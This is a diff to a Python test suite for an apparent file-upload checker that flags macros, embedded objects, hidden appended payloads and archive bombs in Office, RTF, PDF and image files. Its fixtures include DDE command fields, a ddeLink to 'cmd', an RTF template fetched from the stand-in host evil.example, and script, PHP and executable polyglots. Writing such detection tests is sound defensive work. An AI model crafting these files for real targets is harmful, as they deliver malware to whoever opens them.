@@ -68,6 +68,18 @@ def answer(name, content, **limits):
     return admit(name, content, now=NOW, limits=replace(ALL, **limits))
 
 
+def carrying(content, at="word/embeddings/oleObject1.bin"):
+    return package("[Content_Types].xml", "word/document.xml", **{at: content})
+
+
+def ole(*streams):
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "".join(streams).encode("utf-16-le")
+
+
+def fields(text):
+    return package("[Content_Types].xml", **{"word/document.xml": text})
+
+
 PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
 
 
@@ -134,6 +146,37 @@ def test_the_kind_is_told_by_content(name, content, kind):
         ("a.pdf", PDF[:-8], "damaged"),
         ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument_VBA_PROJECT"
          .encode("utf-16-le"), "macro"),
+        ("a.pdf", PDF.replace(b"<<>>endobj", b"<</XFA 9 0 R>>endobj"), "macro"),
+        ("a.pdf", PDF.replace(b"<<>>endobj", b"<</Filter/ASCIIHexDecode/Type/ObjStm>>stream\n3C"),
+         "macro"),
+        ("a.pdf", PDF.replace(b"<<>>", b"<</Type/Obj#53tm>>stream\n" + zlib.compress(b"/Launch")),
+         "macro"),
+        ("a.docx", carrying(ole("Ole10Native")), "embedded"),
+        ("a.docx", carrying(ole("Equation Native")), "embedded"),
+        ("a.docx", carrying(b"MZ" + bytes(60)), "embedded"),
+        ("a.docx", carrying(package("a.exe")), "embedded"),
+        ("a.docx", carrying(ole("Workbook", "_VBA_PROJECT")), "macro"),
+        ("a.docx", carrying(package("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"),
+                            "word/embeddings/Sheet1.xlsx"), "macro"),
+        ("a.docx", carrying(carrying(carrying(office("")))), "embedded"),
+        ("a.docx", fields("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>"),
+         "macro"),
+        ("a.xlsx", package("[Content_Types].xml", "xl/workbook.xml",
+                           **{"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
+         "macro"),
+        ("a.doc", ole("WordDocument", "ObjectPool", "\x01Ole10Native"), "embedded"),
+        ("a.rtf", rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", "embedded"),
+        ("a.rtf", rb"{\rtf1 {\*\template http://evil.example/x}}", "embedded"),
+        ("a.jpg", picture() + package("x.class"), "hidden"),
+        ("a.jpg", picture() + b"MZ" + bytes(100), "hidden"),
+        ("a.png", picture("PNG") + b"\r\n<script>alert(1)</script>", "hidden"),
+        ("a.gif", picture("GIF") + b"<?php 1; ?>", "hidden"),
+        ("a.webp", picture("WEBP") + PDF, "hidden"),
+        ("a.bmp", picture("BMP") + b"Rar!\x1a\x07", "hidden"),
+        ("a.jpg", picture(comment=b"%PDF-1.4 1 0 obj"), "hidden"),
+        ("a.mp3", b"ID3\x03" + bytes(200) + package("x.class"), "hidden"),
+        ("a.pdf", PDF + package("x.class") + b"\n%%EOF\n", "hidden"),
+        ("a.zip", package("letter.txt", "照片/invoice.pdf.js"), "programs"),
         ("a.jpg", picture()[:300], "damaged"),
         ("a.zip", package(bomb=b"\0" * (60 * 2**20)), "bomb"),
         ("a.bin", bytes(range(256)), "kind"),
@@ -154,6 +197,14 @@ def test_what_only_looks_like_it_comes_in():
     assert isinstance(answer("a.pdf", PDF.replace(b"<<>>endobj", hidden(b"<<>>"))), Admitted)
     own = related("file:///C:/Users/chen/AppData/Roaming/Microsoft/Templates/Normal.dotm")
     assert isinstance(answer("a.docx", office(rels=own)), Admitted)
+    sheet = package("[Content_Types].xml", "xl/workbook.xml")
+    assert isinstance(answer("a.docx", carrying(sheet)), Admitted)
+    assert isinstance(answer("a.docx", carrying(ole("Workbook"))), Admitted)
+    assert isinstance(answer("a.docx", fields("<w:t>the DDE of the bank</w:t>")), Admitted)
+    assert isinstance(answer("a.rtf", rb"{\rtf1 {\*\template C:\\Normal.dotm} hello}"), Admitted)
+    # Telephones put a second picture or a short film behind a photo.
+    for behind in (picture(), b"\0\0\0\x18ftypmp42" + bytes(80), b"SEFT" + bytes(9)):
+        assert isinstance(answer("a.jpg", picture() + behind), Admitted)
     link = related("https://example.cn/", "hyperlink")
     assert isinstance(answer("a.docx", office(rels=link)), Admitted)
 
